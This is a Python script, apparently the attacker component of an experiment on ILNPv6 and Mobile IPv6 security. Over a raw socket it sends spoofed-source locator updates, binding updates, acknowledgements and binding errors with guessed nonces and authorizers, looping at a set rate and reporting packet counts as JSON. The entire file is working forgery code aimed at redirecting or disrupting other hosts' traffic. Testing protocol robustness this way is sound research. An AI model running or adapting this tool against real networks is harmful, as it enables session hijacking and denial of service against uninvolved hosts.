"""An attacker: sends forged signalling of ILNPv6 or Mobile IPv6, from whatever address, over a raw socket.

It knows every address and identifier, and no secret: nonces, cookies, tokens and authenticators are guessed. One round
of all its packets each 1/RATE s until it is ended; then it prints how many packets of each kind it has sent, and
how many bytes, as JSON. Standard library only.
"""

from __future__ import annotations

import argparse
import json
import random
import signal
import socket
import struct
import sys
import time
from collections.abc import Iterator
from ipaddress import IPv6Address

IPV6_HDRINCL = 36
DESTINATION_OPTIONS, ICMPV6, UDP, MOBILITY, NONE = 60, 58, 17, 135, 59
NONCE, HOME_ADDRESS = 0x8B, 0xC9
LOCATOR_UPDATE, ADVERTISEMENT, ACKNOWLEDGEMENT = 156, 1, 2
REFRESH, HOTI, COTI, HOT, COT, BU, BACK, ERROR = range(8)

Forged = tuple[str, bytes]
"""What it is called, and the packet."""


def checksum(source: IPv6Address, destination: IPv6Address, protocol: int, upper: bytes) -> int:
    """RFC 8200 section 8.1."""
    data = source.packed + destination.packed + struct.pack("!IHBB", len(upper), 0, 0, protocol) + upper
    data += b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source: IPv6Address, destination: IPv6Address, next_header: int, payload: bytes) -> bytes:
    """With the header of IPv6."""
    return struct.pack("!IHBB", 6 << 28, len(payload), next_header, 64) + source.packed + destination.packed + payload


def with_nonce(source: IPv6Address, destination: IPv6Address, upper: int, payload: bytes) -> bytes:
    """With a nonce that is guessed (RFC 6744 section 2)."""
    options = struct.pack("!BBBB", upper, 0, NONCE, 4) + random.randbytes(4)
    return packet(source, destination, DESTINATION_OPTIONS, options + payload)


def locator_update(source: IPv6Address, destination: IPv6Address, operation: int, locator: IPv6Address) -> bytes:
    """RFC 6743 section 2: the ICMPv6 message."""
    body = struct.pack("!BBH", 1, operation, 0) + locator.packed[:8] + struct.pack("!HH", 0, 3600)
    message = struct.pack("!BBH", LOCATOR_UPDATE, 0, 0) + body
    summed = checksum(source, destination, ICMPV6, message)
    return struct.pack("!BBH", LOCATOR_UPDATE, 0, summed) + body


def datagram(source: IPv6Address, destination: IPv6Address, port: int) -> bytes:
    """UDP with 100 bytes."""
    data = b"\0" * 100
    summed = checksum(source, destination, UDP, struct.pack("!HHHH", 40_002, port, 8 + len(data), 0) + data)
    return struct.pack("!HHHH", 40_002, port, 8 + len(data), summed) + data


def mobility(
    source: IPv6Address, destination: IPv6Address, kind: int, body: bytes, home: IPv6Address | None = None
) -> bytes:
    """RFC 6275 section 6.1.1, with a Home Address option if `home` is given, which the checksum is then over."""
    # header and checksum are 6 bytes; Pad1 fills up to 8 (section 6.2.2)
    body += b"\0" * (-(6 + len(body)) % 8)
    length = (6 + len(body)) // 8
    header = struct.pack("!BBBB", NONE, length - 1, kind, 0)
    summed = checksum(home or source, destination, MOBILITY, header + b"\0\0" + body)
    message = header + struct.pack("!H", summed) + body
    if home is None:
        return packet(source, destination, MOBILITY, message)
    options = struct.pack("!BBBBBBBB", MOBILITY, 2, 1, 2, 0, 0, HOME_ADDRESS, 16) + home.packed
    return packet(source, destination, DESTINATION_OPTIONS, options + message)


def ilnp(a: argparse.Namespace) -> Iterator[Forged]:
    """The mobile host is here, says somebody who is not it, in every way there is without its nonce."""
    here = IPv6Address(a.here)
    impostor = IPv6Address(here.packed[:8] + IPv6Address(a.mobile[0]).packed[8:])
    for peer in map(IPv6Address, a.correspondent):
        for source in [*map(IPv6Address, a.mobile), impostor]:
            update = locator_update(source, peer, ADVERTISEMENT, here)
            yield "locator update without a nonce", packet(source, peer, ICMPV6, update)
            yield "locator update with a guessed nonce", with_nonce(source, peer, ICMPV6, update)
            acknowledged = locator_update(source, peer, ACKNOWLEDGEMENT, here)
            yield "acknowledgement with a guessed nonce", with_nonce(source, peer, ICMPV6, acknowledged)
            yield "data with a guessed nonce", with_nonce(source, peer, UDP, datagram(source, peer, a.port))
        for target in map(IPv6Address, a.mobile):
            update = locator_update(peer, target, ADVERTISEMENT, here)
            yield "locator update to the mobile host", with_nonce(peer, target, ICMPV6, update)
            acknowledged = locator_update(peer, target, ACKNOWLEDGEMENT, here)
            yield "acknowledgement to the mobile host", with_nonce(peer, target, ICMPV6, acknowledged)


def mip6(a: argparse.Namespace) -> Iterator[Forged]:
    """The mobile node's care-of address is mine, says somebody who has no key."""
    here, home, agent = IPv6Address(a.here), IPv6Address(a.mobile[0]), IPv6Address(a.agent)
    # an address at the attacker's that never has shown that it is there
    nobody = IPv6Address(int(here) ^ 0xDEAD0000)
    guess = random.randbytes
    authorization = struct.pack("!BBHH", 4, 4, 1, 1) + struct.pack("!BB", 5, 12) + guess(12)
    for peer in map(IPv6Address, a.correspondent):
        update = struct.pack("!HHH", random.randrange(1 << 16), 0x8000, 100)
        yield "binding update, guessed", mobility(here, peer, BU, update + authorization, home)
        yield "binding update without authorization", mobility(here, peer, BU, update, home)
        gone = struct.pack("!HHH", random.randrange(1 << 16), 0x8000, 0)
        yield "binding update that ends a binding", mobility(home, peer, BU, gone + authorization)
        yield "home test init of nobody", mobility(nobody, peer, HOTI, b"\0\0" + guess(8))
        yield "care-of test init of nobody", mobility(nobody, peer, COTI, b"\0\0" + guess(8))
        for target in map(IPv6Address, a.mobile):
            for kind, name in ((HOT, "home test"), (COT, "care-of test")):
                yield name, mobility(peer, target, kind, struct.pack("!H", 1) + guess(16))
            acknowledged = struct.pack("!BBHH", 0, 0, random.randrange(1 << 16), 100)
            yield "binding acknowledgement", mobility(peer, target, BACK, acknowledged)
            yield "binding refresh request", mobility(peer, target, REFRESH, b"\0\0")
            yield "binding error", mobility(peer, target, ERROR, b"\1\0" + home.packed)
    registration = struct.pack("!HHH", random.randrange(1 << 16), 0xC000, 100)
    yield "binding update to the home agent", mobility(here, agent, BU, registration, home)


def main() -> None:
    """Attack until it is ended."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--scheme", choices=("ilnp", "mip6"), required=True)
    parser.add_argument("--here", required=True, help="own address")
    parser.add_argument("--mobile", action="append", required=True, help="address of the mobile host; its home first")
    parser.add_argument("--correspondent", action="append", required=True, help="address of a correspondent")
    parser.add_argument("--agent", default="::", help="address of the home agent")
    parser.add_argument("--port", type=int, default=9002, help="port that datagrams go to")
    parser.add_argument("--rate", type=float, default=20.0, help="rounds a second")
    a = parser.parse_args()
    over = []
    for ends in (signal.SIGTERM, signal.SIGINT):
        signal.signal(ends, lambda *_: over.append(True))
    sent: dict[str, int] = {}
    length = 0
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.setsockopt(socket.IPPROTO_IPV6, IPV6_HDRINCL, 1)
        while not over:
            for name, forged in (ilnp if a.scheme == "ilnp" else mip6)(a):
                raw.sendto(forged, (str(IPv6Address(forged[24:40])), 0))
                sent[name] = sent.get(name, 0) + 1
                length += len(forged)
            time.sleep(1 / a.rate)
    json.dump({"sent": sent, "bytes": length}, sys.stdout)


if __name__ == "__main__":
    main()
